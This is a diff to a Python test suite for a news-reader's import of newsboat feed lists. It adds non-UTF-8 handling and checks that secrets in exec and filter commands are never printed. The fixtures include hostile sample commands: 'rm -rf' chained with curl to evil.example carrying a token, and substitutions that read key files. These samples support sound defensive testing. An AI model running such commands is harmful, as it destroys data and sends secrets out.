@@ -35,7 +35,7 @@ URLS = (
 
 
 def test_a_feeds_first_tag_is_its_section_and_its_tilde_tag_its_title():
-    imported, not_feeds, _hidden = sources_from_urls_file(URLS.encode("utf-8"))
+    imported, not_feeds, _hidden, _unreadable = sources_from_urls_file(URLS.encode("utf-8"))
     assert imported == [
         Source("https://nos.nl/rss", "Binnenland", "NOS Nieuws"),
         Source("http://x.example/feed", "Sport", "Verborgen"),  # `!` only hides it in newsboat's list
@@ -48,10 +48,38 @@ def test_a_tag_that_hides_a_feed_in_newsboat_is_no_section_quoted_or_not():
     """`URL "!hidden"` and `URL !hidden` were imported as section "!hidden": in newsboat a tag that starts with `!`
     hides the feed, and is none of its tags."""
     urls = 'https://a.example/f "!verborgen" Sport "~Mijn titel"\nhttps://b.example/f !hidden\nhttps://c.example/f "!" "~"\n'
-    imported, not_feeds, hidden = sources_from_urls_file(urls.encode())
+    imported, not_feeds, hidden, _unreadable = sources_from_urls_file(urls.encode())
     assert imported == [Source("https://a.example/f", "Sport", "Mijn titel"), Source("https://b.example/f"), Source("https://c.example/f")]
     assert not_feeds == []
     assert hidden == ["https://a.example/f", "https://b.example/f", "https://c.example/f"]
+
+
+def test_a_bind_key_line_whose_key_is_bytes_that_are_no_utf8_is_left_out_naming_its_line(cli, config, tmp_path):
+    """`bind-key \\xff open` was written into config.toml as `list.open = "enter,\ufffd"`: a key no one can press."""
+    (tmp_path / ".newsboat").mkdir()
+    (tmp_path / ".newsboat" / "urls").write_text("https://nos.nl/rss\n", encoding="utf-8")
+    (tmp_path / ".newsboat" / "config").write_bytes(b"bind-key \xff open\nbind-key x open\n")
+    result = cli("sources", "import-newsboat", env={"NIEUWS_TUI_CONFIG": str(config), "HOME": str(tmp_path)})
+    assert result.returncode == 0, result.stderr
+    assert f"nieuws-tui: {tmp_path}/.newsboat/config: left out newsboat's key bindings: line 1 (its key is bytes that are no UTF-8)" in result.stderr.splitlines()
+    assert "\ufffd" not in config.read_text(encoding="utf-8") and 'list.open = "enter,x"' in config.read_text(encoding="utf-8")
+
+
+def test_a_tag_of_bytes_that_are_no_utf8_is_left_out_of_its_feed_and_said(cli, config, tmp_path):
+    """A urls tag `"\\xff\\xfe"` became the section `[\ufffd\ufffd]`, its feed's articles filed under a name of two question marks."""
+    urls = tmp_path / "newsboat" / "urls"
+    urls.parent.mkdir()
+    urls.write_bytes(b'https://a.example/f "\xff\xfe" Sport "~\xffTitel"\nhttps://b.example/f Cultuur\n')
+    result = cli("sources", "import-newsboat", str(urls), env={"NIEUWS_TUI_CONFIG": str(config)})
+    assert result.returncode == 0, result.stderr
+    assert result.stderr.splitlines() == [
+        f"nieuws-tui: imported 2 sources from {urls}",
+        "nieuws-tui: left out the tags of 1 feed that are bytes that are no UTF-8: https://a.example/f",
+    ]
+    assert [(source.url, source.section, source.title) for source in sources.load_config().sources] == [
+        ("https://a.example/f", "Sport", None),
+        ("https://b.example/f", "Cultuur", None),
+    ]
 
 
 def test_import_newsboat_says_which_feeds_newsboat_hid_as_it_lists_them_with_the_others(cli, config, tmp_path):
@@ -128,6 +156,7 @@ def test_the_lines_that_are_no_feed_are_named_by_program_and_addresses_without_p
         [],
         ["filter:~/bin/schoon.sh:https://b.example/f", "exec:curl https://c.example/f", "exec:curl https://d.example/f", "exec:", "filter:schoon:https://e.example/f"],
         [],
+        [],
     )
 
 
@@ -150,7 +179,7 @@ def test_import_newsboat_leaves_out_a_feed_whose_address_holds_a_control_charact
 
 def test_the_web_addresses_of_a_command_are_named_without_their_query_which_often_holds_a_token(cli, config, tmp_path):
     urls = b'"exec:rm -rf /tmp/x; curl http://evil.example/?t=SECRET"\n"filter:schoon:https://b.example/f?key=8f3a#SECRET2"\n'
-    assert sources_from_urls_file(urls) == ([], ["exec:rm ; curl http://evil.example/?…", "filter:schoon:https://b.example/f?…"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:rm ; curl http://evil.example/?…", "filter:schoon:https://b.example/f?…"], [], [])
     (tmp_path / "urls").write_bytes(urls)
     result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
     assert result.returncode == 0 and "SECRET" not in result.stderr and "8f3a" not in result.stderr, result.stderr
@@ -165,7 +194,7 @@ def test_a_pipeline_is_named_by_every_program_in_it_with_the_addresses_each_read
         b'"filter:~/bin/schoon.sh | iconv -f latin1:https://b.example/f"\n'
     )
     named = ["exec:curl https://a.example/f?… | xsltproc && echo", "exec:~/bin/\x1b[2Jfeed | tee ; cat", "filter:~/bin/schoon.sh | iconv:https://b.example/f"]
-    assert sources_from_urls_file(urls) == ([], named, [])
+    assert sources_from_urls_file(urls) == ([], named, [], [])
     (tmp_path / "urls").write_bytes(urls)
     result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
     assert result.returncode == 0
@@ -183,14 +212,14 @@ def test_a_quoted_operator_is_a_word_and_the_word_after_it_no_program():
         b'"exec:grep -v \\"&&\\" /tmp/f.xml | xsltproc ~/rss.xsl -"\n'
         b'"filter:find . -exec echo {} \\\\; geheim:https://b.example/f"\n'
     )
-    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/feed.sh", "exec:grep | xsltproc", "filter:find:https://b.example/f"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/feed.sh", "exec:grep | xsltproc", "filter:find:https://b.example/f"], [], [])
 
 
 def test_a_comment_in_a_command_names_nothing_it_says(cli, config, tmp_path):
     """A `#` that starts a word starts a comment, to the end of the line, as in the shell that runs the command:
     `# old token; 8f3a` was read on, and `8f3a` named as the program after the `;`, a secret in clear."""
     urls = b'"exec:~/bin/nos.sh --user anna # old token; 8f3aGEHEIM" nieuws\n"exec:curl https://a.example/f;# | 8f3a"\n"exec:feed.sh --tag=#1 | sort"\n'
-    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/nos.sh", "exec:curl https://a.example/f ;", "exec:feed.sh | sort"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/nos.sh", "exec:curl https://a.example/f ;", "exec:feed.sh | sort"], [], [])
     (tmp_path / "urls").write_bytes(urls)
     result = cli("sources", "import-newsboat", str(tmp_path / "urls"), env={"NIEUWS_TUI_CONFIG": str(config)})
     assert result.returncode == 0 and "exec:~/bin/nos.sh," in result.stderr and "8f3a" not in result.stderr, result.stderr
@@ -203,7 +232,7 @@ def test_a_command_quoted_as_c_quotes_is_named_by_its_web_addresses_alone():
         rb""""exec:feed.sh $'\\'' \"'\" \" ; 8f3aSECRET \" # \" https://a.example/f" """ + b"\n"
         rb""""exec:curl https://b.example/f | sed 's/ *$//'" """ + b"\n"
     )
-    assert sources_from_urls_file(urls) == ([], ["exec:https://a.example/f", "exec:curl https://b.example/f | sed"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:https://a.example/f", "exec:curl https://b.example/f | sed"], [], [])
 
 
 _SECRET = st.text("abcdef0123456789", min_size=4, max_size=8).map(lambda tail: "8f3aGEHEIM" + tail)
@@ -240,25 +269,25 @@ def test_a_secret_in_quotes_or_a_comment_of_a_command_is_never_named(commands, j
 def test_a_command_that_substitutes_another_is_named_by_its_web_addresses_alone():
     """`TOKEN=$(cat ~/.t) curl …` was named `cat https://…`: the program substituted, not the one run."""
     urls = b'"exec:TOKEN=$(cat ~/.t) curl https://x.example/f"\n"exec:curl -H \\"X: `cat ~/.k`\\" https://y.example/f?k=1"\n'
-    assert sources_from_urls_file(urls) == ([], ["exec:https://x.example/f", "exec:https://y.example/f?…"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:https://x.example/f", "exec:https://y.example/f?…"], [], [])
 
 
 def test_a_command_is_named_by_its_program_not_by_the_variables_set_before_it():
     """exec: lines run in a shell, where `TOKEN=8f3a ~/bin/feed.sh` gives the program a secret as an option would:
     the secret was named as the program."""
     urls = b'"exec:GITHUB_TOKEN=ghp_8f3a ~/bin/gh-feed --user anna"\n"filter:SLEUTEL=8f3a A=b ~/bin/schoon.sh:https://b.example/f"\n"exec:TOKEN=8f3a"\n'
-    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/gh-feed", "filter:~/bin/schoon.sh:https://b.example/f", "exec:"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/gh-feed", "filter:~/bin/schoon.sh:https://b.example/f", "exec:"], [], [])
 
 
 def test_a_variable_whose_quoted_value_holds_a_space_is_not_named_as_the_program():
     """The shell reads `AUTH='Bearer 8f3a' ~/bin/feed.sh` as one variable set for ~/bin/feed.sh: split at every space,
     the token after `Bearer` was named as the program, in clear. A value whose quote is not closed names none."""
     urls = b'"exec:AUTH=\'Bearer 8f3a\' ~/bin/feed.sh"\n"exec:AUTH=\\"Bearer 8f3a\\" ~/bin/feed.sh"\n"filter:AUTH=\'Basic anna:geheim\' ~/bin/schoon.sh:https://b.example/f"\n'
-    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/feed.sh", "exec:~/bin/feed.sh", "filter::https://b.example/f"], [])
+    assert sources_from_urls_file(urls) == ([], ["exec:~/bin/feed.sh", "exec:~/bin/feed.sh", "filter::https://b.example/f"], [], [])
 
 
 def test_titles_and_sections_from_the_file_are_clean_lines():
-    imported, _, _ = sources_from_urls_file('https://a.example/f "Re\x1b[2Jgio" "~Ti\u202etel"\n'.encode())
+    imported, _, _, _ = sources_from_urls_file('https://a.example/f "Re\x1b[2Jgio" "~Ti\u202etel"\n'.encode())
     assert imported == [Source("https://a.example/f", "Regio", "Titel")]
 
 
@@ -1021,7 +1050,7 @@ def test_an_untagged_feed_files_its_items_under_the_title_the_user_gave_it_impor
     )
     cache, library = tmp_path / "cache.db", Library(tmp_path / "library.sqlite")
     newsboat_cache(cache, {feed: "Omroep A"}, [{"url": f"https://a.example/{slug}", "title": slug, "feedurl": feed} for slug in ("oud", "brug")])
-    [listed], _not_feeds, _hidden = sources_from_urls_file(f'{feed} "~Mijn A"\n'.encode())
+    [listed], _not_feeds, _hidden, _unreadable = sources_from_urls_file(f'{feed} "~Mijn A"\n'.encode())
 
     def sections() -> dict[str, str | None]:
         return {entry.article.title: entry.article.section for entry in Library(library.path).entries()}
